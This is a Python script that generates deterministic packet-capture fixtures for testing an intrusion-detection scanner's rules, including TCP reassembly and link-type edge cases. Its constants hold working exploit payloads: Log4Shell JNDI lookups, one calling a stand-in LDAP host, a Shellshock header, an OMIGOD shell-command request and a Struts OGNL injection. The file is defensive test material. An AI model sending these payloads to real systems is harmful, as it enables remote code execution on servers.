#!/usr/bin/env python3
"""Writes sample packet captures for `vpscan --pcap` and the example rules.

usage: gen_pcaps.py OUTDIR              the sample set and OUTDIR/pcaps.tsv
       gen_pcaps.py --flows N FILE      N concurrent TCP flows in one capture

The sample set holds full TCP conversations (handshake, request, response,
FIN) carrying exploits that examples/rules/*.yaml detect, the same traffic
without the exploit, a UDP DNS exchange, captures with lost segments, and
one capture per supported link type.  OUTDIR/pcaps.tsv lists every file with
the columns file, events, note: `events` is the sorted, comma-separated list
of rule ids that vpscan must report in security mode (one entry per event;
`-` for none).

The output is the same on every run (fixed clock, no randomness).  Addresses
are from the documentation ranges (RFC 5737, RFC 3849); Python 3 standard
library only.
"""
import os
import struct
import sys

T0 = 1639216800_000000  # 2021-12-11T10:00:00Z, in microseconds

# ------------------------------------------------------------------ writers


class PcapWriter:
    """Classic pcap, microsecond timestamps."""

    def __init__(self, path, linktype):
        self.f = open(path, "wb")
        self.f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, linktype))

    def write(self, ts_us, frame, wire_len=None):
        self.f.write(struct.pack("<IIII", ts_us // 1000000, ts_us % 1000000, len(frame),
                                 wire_len or len(frame)))
        self.f.write(frame)

    def close(self):
        self.f.close()


class PcapngWriter:
    """pcapng: one section, one interface, enhanced packet blocks (usec)."""

    def __init__(self, path, linktype):
        self.f = open(path, "wb")
        shb = struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)
        self._block(0x0A0D0D0A, shb)
        self._block(0x00000001, struct.pack("<HHI", linktype, 0, 65535))

    def _block(self, btype, body):
        body += b"\0" * (-len(body) % 4)
        n = 12 + len(body)
        self.f.write(struct.pack("<II", btype, n) + body + struct.pack("<I", n))

    def write(self, ts_us, frame, wire_len=None):
        body = struct.pack("<IIIII", 0, ts_us >> 32, ts_us & 0xFFFFFFFF, len(frame),
                           wire_len or len(frame)) + frame
        self._block(0x00000006, body)

    def close(self):
        self.f.close()


# ------------------------------------------------------------------ packets


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip4(text):
    return bytes(int(x) for x in text.split("."))


def ip6(text):
    head, _, tail = text.partition("::")
    h = [int(x, 16) for x in head.split(":") if x]
    t = [int(x, 16) for x in tail.split(":") if x]
    return struct.pack("!8H", *(h + [0] * (8 - len(h) - len(t)) + t))


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def tcp_header(src, dst, sport, dport, seq, ack, flags, payload):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4,
                      flags, 65535, 0, 0)
    pseudo = (src + dst + struct.pack("!BBH", 0, 6, len(hdr) + len(payload)) if len(src) == 4
              else src + dst + struct.pack("!IxxxB", len(hdr) + len(payload), 6))
    csum = checksum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:] + payload


def udp_header(src, dst, sport, dport, payload):
    n = 8 + len(payload)
    pseudo = (src + dst + struct.pack("!BBH", 0, 17, n) if len(src) == 4
              else src + dst + struct.pack("!IxxxB", n, 17))
    csum = checksum(pseudo + struct.pack("!HHHH", sport, dport, n, 0) + payload) or 0xFFFF
    return struct.pack("!HHHH", sport, dport, n, csum) + payload


def ipv4_packet(src, dst, proto, l4, ident, options=b""):
    ihl = 5 + len(options) // 4
    hdr = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(l4), ident & 0xFFFF, 0x4000,
                      64, proto, 0, src, dst) + options
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + l4


def ipv6_packet(src, dst, proto, l4, dest_opts=False):
    ext = b""
    nxt = proto
    if dest_opts:   # a destination-options header with one PadN option
        ext = struct.pack("!BB", proto, 0) + b"\x01\x04\x00\x00\x00\x00"
        nxt = 60
    return struct.pack("!IHBB", 0x60000000, len(ext) + len(l4), nxt, 64) + src + dst + ext + l4


MAC_C = bytes.fromhex("020000000001")
MAC_S = bytes.fromhex("020000000002")


def ethernet(ethertype, payload, to_server, vlans=()):
    dst, src = (MAC_S, MAC_C) if to_server else (MAC_C, MAC_S)
    tags = b""
    for tpid, vid in vlans:
        tags += struct.pack("!HH", tpid, vid)
    frame = dst + src + tags + struct.pack("!H", ethertype) + payload
    return frame + b"\0" * max(0, 60 - len(frame))   # minimum frame size: padding


class Link:
    """How IP packets are framed for one link type."""

    def __init__(self, kind, vlans=()):
        self.kind = kind
        self.vlans = vlans
        self.linktype = {"eth": 1, "sll": 113, "sll2": 276, "raw": 101, "null": 0}[kind]

    def frame(self, ip, version, to_server):
        ethertype = 0x0800 if version == 4 else 0x86DD
        if self.kind == "eth":
            return ethernet(ethertype, ip, to_server, self.vlans)
        if self.kind == "sll":
            return struct.pack("!HHH8sH", 0 if to_server else 4, 1, 6,
                               (MAC_C if to_server else MAC_S) + b"\0\0", ethertype) + ip
        if self.kind == "sll2":
            return struct.pack("!HHIHBB8s", ethertype, 0, 2, 1, 0 if to_server else 4, 6,
                               (MAC_C if to_server else MAC_S) + b"\0\0") + ip
        if self.kind == "raw":
            return ip
        return struct.pack("<I", 2 if version == 4 else 24) + ip   # BSD loopback, little endian


ETH = Link("eth")


class Capture:
    """A list of (time, frame) written in order."""

    def __init__(self, link=ETH):
        self.link = link
        self.packets = []
        self.clock = T0

    def add(self, frame, gap_us=1000):
        self.clock += gap_us
        self.packets.append((self.clock, frame))

    def save(self, path, ng=False):
        w = (PcapngWriter if ng else PcapWriter)(path, self.link.linktype)
        for ts, frame in self.packets:
            w.write(ts, frame)
        w.close()


class Tcp:
    """One TCP connection; offsets are relative to the first data byte."""

    def __init__(self, cap, client, cport, server, sport, cisn=1000, sisn=5000, ip_options=b"",
                 dest_opts=False):
        self.cap = cap
        self.v = 6 if ":" in client else 4
        conv = ip6 if self.v == 6 else ip4
        self.c, self.s = conv(client), conv(server)
        self.cport, self.sport = cport, sport
        self.cisn, self.sisn = cisn, sisn
        self.ident = 1
        self.ip_options = ip_options
        self.dest_opts = dest_opts

    def packet(self, to_server, seq, ack, flags, payload=b"", gap_us=1000):
        src, dst = (self.c, self.s) if to_server else (self.s, self.c)
        sp, dp = (self.cport, self.sport) if to_server else (self.sport, self.cport)
        l4 = tcp_header(src, dst, sp, dp, seq, ack, flags, payload)
        if self.v == 4:
            ip = ipv4_packet(src, dst, 6, l4, self.ident, self.ip_options)
        else:
            ip = ipv6_packet(src, dst, 6, l4, self.dest_opts)
        self.ident += 1
        self.cap.add(self.cap.link.frame(ip, self.v, to_server), gap_us)

    def handshake(self):
        self.packet(True, self.cisn, 0, SYN)
        self.packet(False, self.sisn, self.cisn + 1, SYN | ACK)
        self.packet(True, self.cisn + 1, self.sisn + 1, ACK)

    def send(self, to_server, off, data, ack_off=0, flags=PSH | ACK):
        """data at relative offset `off` of its direction; ack_off: peer bytes acknowledged."""
        if to_server:
            self.packet(True, self.cisn + 1 + off, self.sisn + 1 + ack_off, flags, data)
        else:
            self.packet(False, self.sisn + 1 + off, self.cisn + 1 + ack_off, flags, data)

    def close(self, client_len, server_len):
        """Client FIN, server FIN, last ACK."""
        self.packet(True, self.cisn + 1 + client_len, self.sisn + 1 + server_len, FIN | ACK)
        self.packet(False, self.sisn + 1 + server_len, self.cisn + 2 + client_len, FIN | ACK)
        self.packet(True, self.cisn + 2 + client_len, self.sisn + 2 + server_len, ACK)


def conversation(cap, client, cport, server, sport, request, response, pieces=None, **kw):
    """Handshake, the request (split at `pieces` offsets), the response, FIN."""
    t = Tcp(cap, client, cport, server, sport, **kw)
    t.handshake()
    cuts = [0] + list(pieces or []) + [len(request)]
    for a, b in zip(cuts, cuts[1:]):
        t.send(True, a, request[a:b])
    t.send(False, 0, response, len(request))
    t.close(len(request), len(response))
    return t


def udp(cap, client, cport, server, sport, payload, to_server=True):
    v = 6 if ":" in client else 4
    conv = ip6 if v == 6 else ip4
    c, s = conv(client), conv(server)
    src, dst, sp, dp = (c, s, cport, sport) if to_server else (s, c, sport, cport)
    l4 = udp_header(src, dst, sp, dp, payload)
    ip = ipv4_packet(src, dst, 17, l4, 7) if v == 4 else ipv6_packet(src, dst, 17, l4)
    cap.add(cap.link.frame(ip, v, to_server))


# ------------------------------------------------------------------ content

CRLF = "\r\n"


def http_request(method, target, headers, body=b""):
    if isinstance(body, str):
        body = body.encode("latin-1")
    lines = ["%s %s HTTP/1.1" % (method, target)] + ["%s: %s" % kv for kv in headers]
    if body or method == "POST":
        lines.append("Content-Length: %d" % len(body))
    return (CRLF.join(lines) + CRLF + CRLF).encode("latin-1") + body


def http_response(status, body, ctype="text/html"):
    return ("HTTP/1.1 %s\r\nServer: Apache\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
            % (status, ctype, len(body))).encode("latin-1") + body


def dns_query(txid, name, qtype):
    q = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def dns_answer(query, addr):
    return (query[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + query[12:] +
            b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04" + ip4(addr))


UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
JNDI = "${jndi:ldap://198.51.100.23:1389/Exploit}"
BENIGN_Q = "java+naming+and+directory+interface"

OMI_BODY = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
    'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
    'xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem">'
    "<s:Header><a:To>HTTP://192.0.2.50:5985/wsman/</a:To>"
    "<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/"
    "ExecuteShellCommand</a:Action></s:Header>"
    "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command>"
    "<p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>")

STRUTS_CT = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
             "(#_memberAccess?(#_memberAccess=#dm):((#context.setMemberAccess(#dm))))."
             "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}")


def search_request(query):
    return http_request("GET", "/app/search?q=" + query,
                        [("Host", "192.0.2.20:8080"), ("User-Agent", "curl/7.81.0"),
                         ("Accept", "*/*")])


def reordered_search(cap, query):
    """The request in three segments A|B|C cut inside the JNDI lookup (A ends
    with "${jn"), delivered as C, B, a conflicting overlap of B and C, A, and
    a retransmission of A.  First data wins, so the overlap changes nothing."""
    req = search_request(query)
    at = req.index(b"q=") + 2
    a_end, b_end = at + 4, at + 20   # "${jn" | "di:ldap://198.51" | ".100.23:1389/Exploit} ..."
    A, B, C = req[:a_end], req[a_end:b_end], req[b_end:]
    t = Tcp(cap, "192.0.2.100", 49152, "192.0.2.20", 8080)
    t.handshake()
    t.send(True, b_end, C)
    t.send(True, a_end, B)
    overlap = b"x" * (len(B) + 6)       # covers all of B and C's first 6 bytes
    t.send(True, a_end, overlap)
    t.send(True, 0, A)
    t.send(True, 0, A)                  # retransmission
    resp = http_response("200 OK", b"<html>no results</html>")
    t.send(False, 0, resp, len(req))
    t.close(len(req), len(resp))


def shellshock_request():
    return http_request("GET", "/cgi-bin/status",
                        [("Host", "192.0.2.10"), ("User-Agent", "() { :; }; /bin/bash -c 'id'"),
                         ("Accept", "*/*")])


def samples():
    """(file, events, note, builder(path)) in manifest order."""
    def reordered(query):
        def build(path):
            cap = Capture()
            reordered_search(cap, query)
            cap.save(path)
        return build

    yield ("log4shell-reordered.pcap", "2100001",
           "JNDI lookup split over 3 segments, out of order, overlap and retransmission",
           reordered(JNDI))
    yield ("benign-reordered.pcap", "-", "the same traffic without the lookup",
           reordered(BENIGN_Q))

    def shellshock(path):
        cap = Capture()
        req = shellshock_request()
        conversation(cap, "192.0.2.101", 50000, "192.0.2.10", 80, req,
                     http_response("200 OK", b"uid=33(www-data)\n"), pieces=[40, 70])
        cap.save(path)
    yield ("shellshock.pcap", "2200001", "Shellshock User-Agent over IPv4", shellshock)

    def omigod(path):
        cap = Capture()
        req = http_request("POST", "/wsman", [("Host", "192.0.2.50:5985"),
                                              ("Content-Type", "application/soap+xml")], OMI_BODY)
        conversation(cap, "192.0.2.102", 50001, "192.0.2.50", 5985, req,
                     http_response("200 OK", b"<s:Envelope/>", "application/soap+xml"),
                     pieces=[100, 300, 500], ip_options=b"\x01\x01\x01\x00")  # NOP NOP NOP EOL
        cap.save(path)
    yield ("omigod.pcap", "2300001",
           "OMIGOD: POST /wsman without Authorization, decided at the FIN; IPv4 options", omigod)

    def ipv6(path):
        cap = Capture()
        req = http_request("GET", "/", [("Host", "[2001:db8::20]"),
                                        ("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:"
                                                       "${::-l}${::-d}${::-a}${::-p}://x.test/a}")])
        conversation(cap, "2001:db8::100", 50002, "2001:db8::20", 80, req,
                     http_response("404 Not Found", b""), pieces=[30], dest_opts=True)
        cap.save(path)
    yield ("log4shell-ipv6.pcap", "2100002",
           "obfuscated lookup over IPv6 with a destination-options header", ipv6)

    def vlan(path):
        cap = Capture(Link("eth", vlans=[(0x8100, 42)]))
        req = http_request("POST", "/struts2-showcase/fileupload/doUpload.action",
                           [("Host", "192.0.2.40:8080"), ("User-Agent", UA),
                            ("Content-Type", STRUTS_CT)])
        conversation(cap, "192.0.2.103", 50003, "192.0.2.40", 8080, req,
                     http_response("200 OK", b"uid=0(root)\n"), pieces=[64, 128, 256])
        cap.save(path)
    yield ("struts-vlan.pcap", "2100004", "Struts OGNL Content-Type in 802.1Q VLAN 42", vlan)

    def dns(path):
        cap = Capture()
        q = dns_query(0x4A11, "sigred.attacker.test", 24)
        udp(cap, "192.0.2.104", 53123, "192.0.2.53", 53, q)
        q2 = dns_query(0x4A12, "www.example.com", 1)
        udp(cap, "192.0.2.104", 53124, "192.0.2.53", 53, q2)
        udp(cap, "192.0.2.104", 53124, "192.0.2.53", 53, dns_answer(q2, "192.0.2.80"),
            to_server=False)
        cap.save(path)
    yield ("dns.pcap", "2300004", "UDP: a SIG query (detect-only rule) and an ordinary lookup", dns)

    def gap(path):
        cap = Capture()
        # OMIGOD request whose 2nd segment is never captured: the missing bytes
        # might hold an Authorization header, so the rule must not fire.
        req = http_request("POST", "/wsman", [("Host", "192.0.2.50:5985"),
                                              ("Content-Type", "application/soap+xml")], OMI_BODY)
        t = Tcp(cap, "192.0.2.105", 50004, "192.0.2.50", 5985)
        t.handshake()
        t.send(True, 0, req[:60])
        t.send(True, 120, req[120:])        # req[60:120] lost
        resp = http_response("401 Unauthorized", b"")
        t.send(False, 0, resp, len(req))
        t.close(len(req), len(resp))        # FIN beyond the missing data
        # Shellshock after a lost segment: still found, at its real offset.
        req = shellshock_request()
        t = Tcp(cap, "192.0.2.106", 50005, "192.0.2.10", 80)
        t.handshake()
        t.send(True, 0, req[:10])
        t.send(True, 25, req[25:])          # req[10:25] lost
        resp = http_response("200 OK", b"ok\n")
        t.send(False, 0, resp, len(req))
        t.close(len(req), len(resp))
        cap.save(path)
    yield ("gap.pcap", "2200001", "lost segments: OMIGOD undecidable (no event), Shellshock found",
           gap)

    def midstream(path):
        cap = Capture()
        req = shellshock_request()
        t = Tcp(cap, "192.0.2.107", 50006, "192.0.2.10", 80, cisn=0xFFFFFFF0, sisn=0xFFFFFF00)
        # No handshake in the capture, and the sequence numbers wrap inside the request.
        t.send(True, 0, req[:30])
        t.send(True, 30, req[30:])
        resp = http_response("200 OK", b"ok\n")
        t.send(False, 0, resp, len(req))
        t.close(len(req), len(resp))
        cap.save(path)
    yield ("midstream-wrap.pcap", "2200001",
           "capture starts after the handshake; sequence numbers wrap around", midstream)

    def rst(path):
        cap = Capture()
        req = http_request("POST", "/wsman", [("Host", "192.0.2.50:5985"),
                                              ("Content-Type", "application/soap+xml")], OMI_BODY)
        t = Tcp(cap, "192.0.2.109", 50008, "192.0.2.50", 5985)
        t.handshake()
        t.send(True, 0, req[:200])
        t.send(True, 200, req[200:])
        t.packet(False, t.sisn + 1, t.cisn + 1 + len(req), RST | ACK)   # the server aborts
        cap.save(path)
    yield ("omigod-rst.pcap", "2300001",
           "OMIGOD request ended by a RST: the end of the stream is decided there", rst)

    def reuse(path):
        cap = Capture()
        # A benign exchange whose close is not in the capture, then a new
        # connection on the same ports (new ISN) carrying Shellshock.
        conv = Tcp(cap, "192.0.2.110", 50009, "192.0.2.10", 80)
        conv.handshake()
        ok = http_request("GET", "/index.html", [("Host", "192.0.2.10")])
        conv.send(True, 0, ok)
        conv.send(False, 0, http_response("200 OK", b"hello\n"), len(ok))
        conversation(cap, "192.0.2.110", 50009, "192.0.2.10", 80, shellshock_request(),
                     http_response("200 OK", b"ok\n"), cisn=777777, sisn=888888)
        cap.save(path)
    yield ("port-reuse.pcap", "2200001",
           "two connections on one 5-tuple, the first never closed", reuse)

    for kind, ng in [("sll", False), ("sll2", False), ("raw", False), ("null", False),
                     ("eth", True)]:
        def linktype(path, kind=kind, ng=ng):
            link = Link(kind) if kind != "eth" else Link("eth", vlans=[(0x88A8, 100), (0x8100, 7)])
            cap = Capture(link)
            conversation(cap, "192.0.2.108", 50007, "192.0.2.10", 80, shellshock_request(),
                         http_response("200 OK", b"ok\n"), pieces=[50])
            cap.save(path, ng=ng)
        name = "link-qinq.pcapng" if ng else "link-%s.pcap" % kind
        note = ("pcapng, Ethernet with QinQ (802.1ad + 802.1Q)" if ng
                else "link type %s" % kind)
        yield (name, "2200001", note, linktype)


def many_flows(n, path):
    """n TCP flows open at once: all handshakes, then one request each, no FIN."""
    cap_link = ETH
    w = PcapWriter(path, cap_link.linktype)
    ts = T0

    def emit(frame):
        nonlocal ts
        ts += 10
        w.write(ts, frame)

    req = http_request("GET", "/index.html", [("Host", "www.example"), ("User-Agent", UA)])
    server = ip4("192.0.2.80")
    for phase in range(3):
        for i in range(n):
            client = ip4("10.%d.%d.%d" % ((i >> 16) & 255, (i >> 8) & 255, i & 255))
            cport = 1024 + (i % 60000)
            cisn, sisn = 1000 + i, 900000 + i
            if phase == 0:
                l4 = tcp_header(client, server, cport, 80, cisn, 0, SYN, b"")
                ip = ipv4_packet(client, server, 6, l4, i)
                emit(ethernet(0x0800, ip, True))
                l4 = tcp_header(server, client, 80, cport, sisn, cisn + 1, SYN | ACK, b"")
                emit(ethernet(0x0800, ipv4_packet(server, client, 6, l4, i), False))
            elif phase == 1:
                l4 = tcp_header(client, server, cport, 80, cisn + 1, sisn + 1, PSH | ACK, req)
                emit(ethernet(0x0800, ipv4_packet(client, server, 6, l4, i), True))
            else:
                # a segment beyond a hole: out-of-order data held until the end
                l4 = tcp_header(client, server, cport, 80, cisn + 1 + len(req) + 100, sisn + 1,
                                PSH | ACK, req)
                emit(ethernet(0x0800, ipv4_packet(client, server, 6, l4, i), True))
    w.close()


def main(argv):
    if len(argv) == 4 and argv[1] == "--flows":
        many_flows(int(argv[2]), argv[3])
        return 0
    if len(argv) != 2:
        sys.stderr.write(__doc__.split("\n\n")[1] + "\n")
        return 2
    outdir = argv[1]
    os.makedirs(outdir, exist_ok=True)
    rows = ["file\tevents\tnote"]
    for name, events, note, build in samples():
        build(os.path.join(outdir, name))
        rows.append("%s\t%s\t%s" % (name, events, note))
    with open(os.path.join(outdir, "pcaps.tsv"), "w", newline="\n") as f:
        f.write("\n".join(rows) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
